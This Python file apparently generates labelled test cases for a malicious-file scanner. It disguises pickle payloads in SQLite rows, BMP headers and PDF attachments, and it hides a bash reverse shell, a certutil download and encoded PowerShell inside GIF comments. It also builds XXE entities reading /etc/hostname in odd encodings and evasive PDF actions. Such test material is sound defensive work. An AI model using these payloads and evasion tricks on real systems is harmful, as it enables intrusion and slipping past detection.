"""Files that another program reads as something else: rows of databases, pages with a picture's head, PDFs, other letters."""

import sqlite3
import struct
import tempfile
import zlib
from pathlib import Path

from pickle_code import payload

ENTITY = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>'


def make(cases):
    family = cases.family("disguise")
    databases(family)
    long_firsts(family)
    names(family)
    pages(family)
    letters(family)
    programs(family)


def databases(family):
    import pickle

    for protocol in range(6):
        family.malicious(f"row-protocol-{protocol}", "index.db", database(payload(protocol)), f"a pickle of protocol {protocol} in a row")
    long = b"\x80\x02X" + struct.pack("<I", 20000) + b"a" * 20000 + b"0" + payload(2)[2:]
    family.malicious("row-of-pages", "index.db", database(long), "a pickle in a row that goes on over many pages")
    family.malicious("row-of-index", "index.db", database(payload(2), table="create table t (k text, v blob, primary key (k)) without rowid"), "a pickle in a table without row numbers")
    family.malicious("row-text", "index.db", database(payload(0).decode("latin-1")), "a pickle as a text")
    rows = [pickle.dumps({"step": n, "loss": [n / 7, "train"], "shape": (n, 2)}, n % 6) for n in range(200)]
    family.benign("rows-of-numbers", "trials.db", database(*rows), "plain values as pickles, as studies of parameters keep them")
    family.benign("rows-of-vectors", "vectors.db", database(*[struct.pack("<384f", *[((n * 37 + k * 11) % 199) / 99 - 1 for k in range(384)]) for n in range(300)]), "vectors of numbers")
    family.benign("rows-of-words", "notes.db", database(*[f"Nobody runs the text number {n}. " * (n % 90 + 1) for n in range(200)]), "texts, short and long")


def database(*values, table="create table t (k text, v blob)"):
    """A database of the real library with a row for each value."""
    with tempfile.TemporaryDirectory() as folder:
        at = Path(folder) / "a.db"
        made = sqlite3.connect(at)
        made.execute(table)
        made.executemany("insert into t (k, v) values (?, ?)", [(f"key {n}", value) for n, value in enumerate(values)])
        made.commit(), made.close()
        return at.read_bytes()


def long_firsts(family):
    attack = b"0" + payload(2)[2:]
    for name, op, count in [("X", b"X", "<I"), ("B", b"B", "<I"), ("T", b"T", "<I"), ("8d", b"\x8d", "<Q"), ("8e", b"\x8e", "<Q"), ("96", b"\x96", "<Q")]:
        family.malicious(f"long-first-{name.lower()}", "weights", op + struct.pack(count, 6000) + b"a" * 6000 + attack, "a pickle that begins with a long text")
    # As a picture: `BM` and its size, of which `M` and three bytes are a length.
    head = b"BM" + struct.pack("<IIIIHHHH", 32, 0, 26, 12, 1, 1, 1, 24)
    length = struct.unpack("<I", head[1:5])[0]
    family.malicious("picture-and-pickle", "picture.bmp", head.ljust(5 + length, b"\0") + attack, "a picture of which the first two letters step over its pixels")


def gif(words):
    body = b"\n" + words.encode() + b"\n"
    blocks = b"".join(bytes([len(piece)]) + piece for piece in (body[n:n + 255] for n in range(0, len(body), 255)))
    return b"GIF89a\x01\0\x01\0\0\0\0\x21\xfe" + blocks + b"\0\x2c\0\0\0\0\x01\0\x01\0\0\x02\x02ab\0\x3b"


def names(family):
    shell = "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"
    for end, words in [
        ("sh", shell), ("bat", "powershell -enc AAAAAAAA"), ("cmd", "certutil -urlcache -f http://127.0.0.1/a a.exe"), ("ps1", "powershell -enc AAAAAAAA"),
        ("pl", f'system("{shell}");'), ("rb", f'system("{shell}")'), ("vbs", 'CreateObject("WScript.Shell").Run "powershell -enc AAAA"'),
    ]:
        family.malicious(f"picture-as-{end}", f"run.{end}", gif(words), "a picture with a script in its comment, under the name of a script")
    for end in ("html", "svg", "xhtml"):
        family.suspicious(f"picture-as-{end}", f"page.{end}", gif("<script>eval(atob('YQ'))</script>"), "a picture with a page in its comment, under the name of a page")
    family.benign("picture-with-words", "picture.gif", gif("made by hand"), "a picture with a comment")
    family.benign("picture-named-svg", "icon.svg", gif("made by hand"), "a picture under the name of another kind")


def pdf(body, data=None):
    stream = b"" if data is None else b"5 0 obj\n<< %s /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (body.encode(), len(data), data)
    return b"%PDF-1.7\n" + (stream or body.encode()) + b"\nstartxref\n0\n%%EOF\n"


def pages(family):
    for case, body in {
        "pdf-escaped": "<< /S /#4aavaScript /J#53 (app.alert) >>", "pdf-launch": "<< /S /L#61unch /F (cmd.exe) >>", "pdf-form": "<< /AcroForm << /XFA 3 0 R >> >>",
        "pdf-page-opens": "<< /Type /Page /AA << /O 4 0 R >> >>", "pdf-address": "<< /OpenAction << /S /URI /URI (http://127.0.0.1/) >> >>",
    }.items():
        family.suspicious(case, "paper.pdf", pdf(body), "a PDF that acts when it is opened")
    family.suspicious("pdf-packed", "paper.pdf", pdf("/Type /Obj#53tm /Filter /FlateDecode", zlib.compress(b"1 0 << /S /JavaScript /JS (x) >>")), "the same in packed objects with an escaped name")
    family.malicious("pdf-attached", "paper.pdf", pdf("/Type /EmbeddedFile /Filter /FlateDecode", zlib.compress(payload(4))), "a pickle attached to a PDF")
    family.benign("pdf-opens-at-page", "paper.pdf", pdf("<< /Type /Catalog /OpenAction [ 3 0 R /FitH null ] /A << /S /URI /URI (https://arxiv.org) >> >>"), "a PDF that opens at a page and has links")
    family.benign("pdf-with-data", "paper.pdf", pdf("/Type /EmbeddedFile", b"x,y\n1,2\n"), "a PDF with its numbers attached")


def letters(family):
    coded = ENTITY.replace("<", "+ADw-").replace(">", "+AD4-")
    family.suspicious("xml-utf7", "model.xml", f'<?xml version="1.0" encoding="UTF-7"?>{coded}', "XML in UTF-7")
    text = f'<?xml version="1.0" encoding="UTF-16"?>{ENTITY}'
    for case, codec in {"xml-wide": "utf-16-le", "xml-wide-big": "utf-16-be", "xml-wider": "utf-32-le"}.items():
        family.suspicious(case, "model.xml", text.encode(codec), "XML in wide letters without a mark")
    family.suspicious("xml-ebcdic", "model.xml", text.replace("UTF-16", "cp037").encode("cp037"), "XML in the letters of large machines")
    for codec in ("utf-8", "iso-8859-1", "mac-cyrillic", "shift_jis"):
        family.benign(f"xml-{codec.replace('_', '-')}", "labels.xml", f'<?xml version="1.0" encoding="{codec}"?><labels><label>a</label></labels>'.encode(codec), f"XML in {codec}")


def programs(family):
    for case, ident in {"elf-no-class": bytes(12), "elf-odd": b"\xff" * 12}.items():
        head = b"\x7fELF" + ident + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x401000, 64, 0, 0, 64, 56, 1, 0, 0, 0)
        family.malicious(case, "model.bin", head.ljust(400, b"\x90"), "a program that Linux runs, with bytes that only loaders of libraries look at")
